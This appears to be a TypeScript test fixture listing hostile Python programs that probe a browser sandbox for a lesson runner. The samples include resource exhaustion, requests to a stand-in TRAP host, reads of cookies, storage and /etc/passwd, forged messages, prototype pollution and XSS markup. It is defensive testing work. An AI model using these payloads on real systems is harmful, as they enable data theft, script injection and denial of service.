/** Programs that try to get out, to learn something or to break the page. `TRAP` is a server that must hear nothing. */
export interface HostileProgram {
  name: string;
  code: string;
  /** It would run until its time is up, so it is stopped. */
  isStopped?: boolean;
  /** What its learner is told. */
  says?: string;
}

const program = (name: string, code: string): HostileProgram => ({ name, code });
const endless = (name: string, code: string): HostileProgram => ({ name, code, isStopped: true });

/** Reports success only if the expression has a value. */
const tryTo = (expression: string) => `import js
try:
    value = ${expression}
    print("nothing" if value is None else f"LEARNED {value}")
except BaseException as error:
    print("refused", type(error).__name__)`;

const request = (url: string) => `import js
request = js.XMLHttpRequest.new()
try:
    request.open("GET", "${url}", False)
    request.send()
    print("LEARNED", request.status, request.responseText[:100])
except BaseException as error:
    print("refused", type(error).__name__)`;

export const hostilePrograms: Record<string, HostileProgram[]> = {
  'that never end': [
    endless('an endless loop', 'while True:\n    pass'),
    endless(
      'a loop that catches everything',
      'while True:\n    try:\n        pass\n    except BaseException:\n        pass',
    ),
    endless('a very large number', 'x = 10 ** 10 ** 8'),
    endless('a pattern that takes for ever', 'import re\nre.match("(a+)+$", "a" * 60 + "b")'),
    endless('a long sleep', 'import time\ntime.sleep(1000)'),
    endless(
      'a wait for nobody',
      'import js\nbox = js.Int32Array.new(js.SharedArrayBuffer.new(4)) if hasattr(js, "SharedArrayBuffer") else None\nwhile True:\n    pass',
    ),
    endless('a worker that closes itself', 'import js\njs.close()\nwhile True:\n    pass'),
    program(
      'recursion without a limit',
      'import sys\nsys.setrecursionlimit(10 ** 9)\ndef f():\n    f()\nf()',
    ),
  ],
  'that need too much': [
    {
      name: 'output without end',
      code: 'while True:\n    print("x" * 500)',
      says: 'stopped because it printed too much',
    },
    program('all the memory', 'parts = []\nwhile True:\n    parts.append(bytearray(20_000_000))'),
    program('one huge list', 'x = [0] * 10 ** 9'),
    program('a huge text', 'print("%*d" % (2_000_000_000, 1))'),
    program('errors without end', 'import sys\nwhile True:\n    print("x" * 500, file=sys.stderr)'),
    program(
      'output past the limit of the runner',
      'import js\nwhile True:\n    js.postMessage(js.JSON.parse(\'{"type":"output","stream":"out","text":"flood"}\'))',
    ),
    program('a flood of junk', 'import js\nfor n in range(100_000):\n    js.postMessage(n)'),
    program(
      'a picture that is too large',
      'import lesson_runner\nlesson_runner.show_plot("<svg>" + "x" * 1_000_000, "")',
    ),
    program('a thousand pictures', 'import tinyml\nfor n in range(1000):\n    tinyml.bars({"a": n}).show()'),
  ],
  'that look for a network': [
    program('fetch', 'import js\njs.fetch("TRAP/fetch")\nprint("nothing")'),
    program('a request to this site', request('SITE/rest/v1/profiles')),
    program('a request elsewhere', request('TRAP/request')),
    program('a web socket', tryTo('js.WebSocket.new("TRAP/socket".replace("http", "ws")) and None')),
    program('an event source', tryTo('js.EventSource.new("TRAP/events") and None')),
    program('a script from elsewhere', tryTo('js.importScripts("TRAP/script.js")')),
    program('a script of this site', tryTo('js.importScripts("SITE/python/frame.html")')),
    program('code made of text', tryTo('__import__("pyodide").code.run_js("1 + 1")')),
    program(
      'a worker of its own',
      'import js\nblob = js.Blob.new(js.Array.of("fetch(\'TRAP/nested\').catch(() => {})"))\njs.Worker.new(js.URL.createObjectURL(blob))\nprint("nothing")',
    ),
    program(
      'urllib',
      'import urllib.request\ntry:\n    print("LEARNED", urllib.request.urlopen("TRAP/urllib").status)\nexcept BaseException as error:\n    print("refused", type(error).__name__)',
    ),
    program(
      'a socket',
      'import socket\ntry:\n    line = socket.create_connection(("127.0.0.1", 80), 1)\n    line.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")\n    print("LEARNED" if line.recv(100) else "nothing")\nexcept BaseException as error:\n    print("refused", type(error).__name__)',
    ),
  ],
  'that look for the page and its reader': [
    program('the page around it', tryTo('js.parent')),
    program('the document', tryTo('js.document')),
    program('cookies', tryTo('js.document.cookie')),
    program('the cookie store', tryTo('js.cookieStore.getAll()')),
    program('local storage', tryTo('js.localStorage.getItem("secret")')),
    program('session storage', tryTo('js.sessionStorage.length')),
    program(
      'stored databases',
      'import js\ntry:\n    js.indexedDB.open("x")\n    print("LEARNED")\nexcept BaseException as error:\n    print("refused", type(error).__name__)',
    ),
    program('where it is', 'import js\nprint("LEARNED" if "http" in str(js.location.href) else "nothing")'),
    program(
      'files and settings of a machine',
      'import os\nprint("LEARNED" if os.path.exists("/etc/passwd") and "root" in open("/etc/passwd").read() else "nothing")',
    ),
    program(
      'a channel to the page',
      'import js\nchannel = js.BroadcastChannel.new("secret")\nchannel.postMessage("LEARNED")\nprint("nothing")',
    ),
  ],
  'that lie to the page': [
    program(
      'an unknown message',
      'import js\njs.postMessage(js.JSON.parse(\'{"type":"navigate","url":"https://elsewhere.example"}\'))\nwhile True:\n    pass',
    ),
    program(
      'a message with a prototype',
      'import js\njs.postMessage(js.JSON.parse(\'{"type":"ready","__proto__":{"isAdmin":true}}\'))\nprint("nothing")',
    ),
    program(
      'a forged result',
      'import js\njs.postMessage(js.JSON.parse(\'{"type":"finished","result":{"error":null,"checks":[],"isAsShown":true}}\'))',
    ),
    program(
      'markup as output',
      'print("</pre><img src=x onerror=\\"document.title=\'LEARNED\'\\"><script>document.title=1</script>")',
    ),
    program(
      'a script in a picture',
      "import lesson_runner\nlesson_runner.show_plot(\"<svg xmlns='http://www.w3.org/2000/svg' onload='top.document.title=1'><script>top.document.title=1</script><image href='TRAP/image'/></svg>\", \"x\")",
    ),
    program(
      'messages after its end',
      'import js\nfrom pyodide.ffi import create_proxy\njs.setInterval(create_proxy(lambda: js.postMessage(js.JSON.parse(\'{"type":"output","stream":"out","text":"late"}\'))), 1)',
    ),
  ],
  'that break the interpreter': [
    program('no modules', 'import sys\nsys.modules.clear()'),
    program(
      'no built-in functions',
      'import builtins\nfor name in list(vars(builtins)):\n    if not name.startswith("__"):\n        delattr(builtins, name)',
    ),
    program('another runner', 'import lesson_runner\nlesson_runner.run = None\nlesson_runner.execute = None'),
    program('no output', 'import sys\nsys.stdout = None\nsys.stderr = None'),
    program('the end of the process', 'import os\nos._exit(1)'),
    program('an abort', 'import os\nos.abort()'),
    program('a bad pointer', 'import ctypes\nctypes.string_at(2 ** 31)'),
    program('other processes', 'import subprocess\nsubprocess.run(["ls"])'),
    program('threads', 'import threading\nthreading.Thread(target=print).start()'),
    program('an end in disguise', 'raise KeyboardInterrupt'),
  ],
};
